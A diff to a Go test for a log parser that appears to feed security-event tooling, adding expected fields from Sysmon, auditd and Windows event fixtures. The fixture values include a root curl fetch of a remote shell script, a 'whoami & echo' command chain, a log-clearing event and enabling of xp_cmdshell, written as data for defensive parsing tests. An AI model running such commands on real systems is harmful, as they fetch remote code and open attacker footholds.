@@ -24,7 +24,9 @@ func TestShapes(t *testing.T) {
 		skipped int64
 		checks  []check
 	}{
-		{"syslog.log", 11, 1, []check{
+		{"syslog.log", 12, 1, []check{
+			{event: 11, fields: map[string]string{"EventID": "1", "Provider_Name": "Linux-Sysmon", "Channel": "Linux-Sysmon/Operational", "Image": "/usr/bin/curl",
+				"CommandLine": "curl -s http://198.51.100.9/x.sh", "User": "root", "process.name": "sysmon"}, host: "lx-1", time: "2024-03-01T10:00:00.123456Z", prod: "linux"},
 			{event: 9, fields: map[string]string{"type": "EXECVE", "a0": "curl", "a1": "-o", "a2": "/tmp/x sh\n", "argc": "3", "event.sequence": "4242"},
 				time: "2023-11-14T22:13:20.123Z", prod: "linux", svc: "auditd"},
 			{event: 10, fields: map[string]string{"type": "USER_LOGIN", "acct": "operator", "exe": "/usr/sbin/sshd", "addr": "192.0.2.44", "res": "failed", "auid": "1000"}},
@@ -47,6 +49,13 @@ func TestShapes(t *testing.T) {
 				"EventRecordID": "991", "ProcessID": "4", "ThreadID": "8", "Keywords": "Audit Success", "CommandLine": "whoami /all", "ProcessId": "0x1f0", "Message": "A new process has been created.", "Level": "information"},
 				host: "host-c.example.test", time: "2024-01-02T03:04:05.678Z", prod: "windows"},
 			{event: 1, fields: map[string]string{"EventID": "3", "ProcessID": "77", "System_ProcessID": "2000", "DestinationPort": "443"}},
+		}},
+		{"win_export.xml", 3, 0, []check{
+			{event: 0, fields: map[string]string{"EventID": "4688", "Provider_Name": "Microsoft-Windows-Security-Auditing", "Channel": "Security", "EventRecordID": "501",
+				"ProcessID": "4", "CommandLine": "whoami & echo <x>", "TargetLogonId": "0x3e7", "Message": "A new process has been created.", "Keywords": "0x8020000000000000"},
+				host: "host-f.example.test", time: "2024-01-02T03:04:05.1234567Z", prod: "windows"},
+			{event: 1, fields: map[string]string{"EventID": "1102", "SubjectUserName": "operator", "SubjectLogonId": "0x1a2b3c"}},
+			{event: 2, fields: map[string]string{"EventID": "15457", "Qualifiers": "16384", "Data": "xp_cmdshell\n0\n1", "Data1": "xp_cmdshell", "Data3": "1", "Binary": "DEAD"}, host: "sql-1.example.test"},
 		}},
 		{"win_xmltodict.json", 1, 0, []check{
 			{event: 0, fields: map[string]string{"EventID": "4624", "Provider_Name": "Microsoft-Windows-Security-Auditing", "Qualifiers": "", "ProcessID": "640",
